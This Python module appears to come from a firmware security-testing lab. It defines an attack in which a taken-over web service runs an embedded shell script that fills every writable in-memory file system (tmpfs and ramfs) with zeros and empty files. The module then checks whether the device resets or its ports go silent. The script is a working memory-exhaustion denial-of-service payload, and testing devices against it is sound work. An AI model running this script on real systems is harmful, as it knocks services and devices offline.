"""A web server that was taken over, and fills every file system in memory that it may write to."""

from collections.abc import Iterable

from firmward.lab import reach
from firmward.lab.attacks import Attack, Need, Position, Result, Unseen
from firmward.lab.links import RUNNING
from firmward.lab.means.taken_service import HTTPS, taken
from firmward.lab.network import Forward
from firmward.lab.target import Powered, Target, Witness

BROKER = 8883
PORTS = (HTTPS, BROKER)
FILLS = 180.0
"""Seconds in which all of them are full, on a busy machine too."""
FILES = 1 << 17
"""Empty files in one folder, of which a tmpfs without nr_inodes= takes one for two pages of the memory."""
SETTLES = 15.0
"""Seconds in which the kernel ends what it ends for want of memory."""
SECONDS = 10.0
"""For one port."""
END = "filled"
CODE = """\
while read -r _ place kind _; do
	case $kind in tmpfs | ramfs) ;; *) continue ;; esac
	for folder in "$place" "$place"/*; do
		[ -d "$folder" ] && [ -w "$folder" ] || continue
		echo "$folder"
		(
			dd if=/dev/zero of="$folder/{name}" bs=64k
			n=0
			while [ $n -lt {files} ] && true >"$folder/{name}-$n"; do n=$((n + 1)); done
		) >/dev/null 2>&1 &
	done
done </proc/mounts
wait
echo filled
"""
"""With zeros, and then with empty files, which the kernel keeps in memory of its own. No rights are needed: what is
written is what the service itself may write."""


def run(target: Target) -> Result:
    with taken(target, (BROKER,)) as service:
        powered = service.powered
        forwards = [Forward(port, powered.address(port)[1]) for port in PORTS]
        if silent(forwards):
            raise Unseen(f"ports {_listed(PORTS)} do not all answer even before the attack")
        resets = powered.resets
        said = service.run(CODE.format(name=f"filled-{target.challenge.first}", files=FILES), FILLS)
        target.note(Witness.ATTACKER, f"writes until no more is taken: {_places(said)}")
        if _is_down(powered, forwards, resets):
            return Result.SUCCEEDED
        if END not in said.splitlines():
            raise Unseen("his code did not come to its end")
        return service.goes_on(f"all is full, ports {_listed(PORTS)} answer as before")


def _is_down(powered: Powered, forwards: Iterable[Forward], resets: int) -> bool:
    """Seen from outside: the machine was reset, or a port that answered does not any more."""
    if powered.until(lambda: powered.resets > resets, SETTLES):
        return True
    dead = silent(forwards)
    if dead:
        powered.target.note(Witness.NETWORK, f"nothing answers any more on {_listed(dead)}, and did before")
    return bool(dead)


def silent(forwards: Iterable[Forward], seconds: float = SECONDS) -> list[int]:
    """The ports on which nothing answers."""
    return [one.port for one in reach.call(forwards, seconds) if not one.answers]


def _listed(ports: Iterable[int]) -> str:
    return " and ".join(map(str, ports))


def _places(said: str) -> str:
    return ", ".join(line for line in said.splitlines() if line.startswith("/")) or "no answer came back"


ATTACK = Attack(
    id="memory-filled",
    title="A taken-over service fills the memory",
    does="runs code in the web server, and from there writes to file systems in memory until nothing more fits",
    position=Position.SERVICE,
    link=RUNNING,
    case="CVE-2023-28338: one long request to a Netgear RAX30 fills its /tmp, and the device is dead until it restarts",
    foretold=("mount-options",),
    run=run,
    takes=90.0,
    needs=(Need.NETWORK, Need.SCRIPT),
    ports=(BROKER,),
)
